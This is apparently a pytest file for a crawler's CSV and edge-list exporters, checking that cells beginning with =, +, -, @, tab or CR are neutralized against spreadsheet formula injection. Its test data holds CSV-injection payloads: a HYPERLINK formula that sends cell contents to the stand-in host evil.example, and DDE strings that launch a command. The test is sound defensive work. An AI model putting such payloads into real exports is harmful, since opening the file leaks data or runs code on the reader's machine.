"""Exports cannot attack their reader (issue 30, item 6): collected text and handles starting with ``=``, ``+``,
``-``, ``@``, tab or CR went verbatim into the records CSV and the edge-list CSV, where a spreadsheet runs
them as formulas. Both writers now neutralize them as OWASP recommends (a leading single quote, every text
cell quoted), numbers stay numbers, and the values read back exactly."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from crawl_assets.query.export_formats import csv_rows
from crawl_assets.query.graph_formats import edge_csv
from crawl_assets.query.networks import Graph

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "a,=1+1;=2+2", 'say "=1"']
FORMULA = re.compile(r"^[=+\-@\t\r\0]")
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def _read_back(cell: str) -> str:
    """What the documented rule gives back: the first quote of a neutralized cell dropped."""
    return cell[1:] if re.match(r"^'+[=+\-@\t\r\0]", cell) else cell


def _runs(cell: str) -> bool:
    """Whether a spreadsheet would evaluate the cell (a plain number is a number, not a formula)."""
    return bool(FORMULA.match(cell)) and not NUMBER.match(cell)


def _every_text_cell_quoted(text: str) -> bool:
    """OWASP's escaping: every text cell in double quotes (inner quotes doubled); only numbers bare."""
    try:  # read so, a bare cell must be a number
        list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))
    except ValueError:
        return False
    return True


class Plan:
    """What ``csv_rows`` reads of an ``exports.ExportPlan``: the header, the fields and pages of documents."""

    def __init__(self, docs: list[dict], header: dict) -> None:
        self.fields = ["key", "author_handle", "text", "author_id", "hashtags", "deleted"]
        self.header, self._docs = header, docs
        self.bom = True

    def pages(self):
        yield self._docs


def test_the_records_csv_neutralizes_formulas_and_keeps_numbers_and_values() -> None:
    docs = [{"key": f"x:{i}", "author_handle": value, "text": value, "author_id": "-1001234567", "hashtags": [value],
             "deleted": False} for i, value in enumerate(HOSTILE)]
    header = {"filter": {"text": "x,=HYPERLINK(\"http://evil.example\");@SUM(1)"}, "matched": len(docs)}
    text = b"".join(csv_rows(Plan(docs, header))).decode()
    assert text.startswith("\ufeff"), "UTF-8 with a byte order mark (docs/API.md): no cell of its own"
    first, rest = text[1:].split("\n", 1)
    assert first.startswith("# crawl_assets export ")
    assert json.loads(first[len("# crawl_assets export "):]) == header, "the header still reads as JSON"
    for piece in re.split(r"[,;]", first):  # however a spreadsheet splits the (unquoted) comment line
        assert not _runs(piece.strip('"')), f"the header line yields the cell {piece!r}"
    for row in csv.reader(io.StringIO(rest)):
        assert not [c for c in row if _runs(c)], f"a cell would run as a formula: {row}"
    assert _every_text_cell_quoted(rest), "a separator inside a value could start a new cell"
    rows = list(csv.DictReader(io.StringIO(rest)))
    assert [_read_back(r["text"]) for r in rows] == HOSTILE and [_read_back(r["author_handle"]) for r in rows] == HOSTILE
    assert {r["author_id"] for r in rows} == {"-1001234567"}, "a number (a Telegram chat id) stays a number"
    assert [json.loads(r["hashtags"]) for r in rows] == [[v] for v in HOSTILE]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_edge_list_neutralizes_handles_and_labels_and_keeps_the_weight_a_number(hostile: str) -> None:
    graph = Graph("mention", directed=True)
    graph.node("x:1", label=hostile, kind="author", platform="x", handle=hostile)
    graph.node(hostile, label="@victim", kind="author", platform="x", handle="victim")
    for _ in range(3):
        graph.link("x:1", hostile, "2026-11-01T10:00:00Z")
    text = b"".join(edge_csv(graph, {})).decode()
    for row in csv.reader(io.StringIO(text)):
        assert not [c for c in row if _runs(c)], f"a cell would run as a formula: {row}"
    assert _every_text_cell_quoted(text)
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert _read_back(row["source_label"]) == hostile and _read_back(row["Target"]) == hostile
    assert row["target_label"] == "'@victim" and _read_back(row["target_label"]) == "@victim"
    assert re.search(r",3,", text), "the weight is written as a bare number"
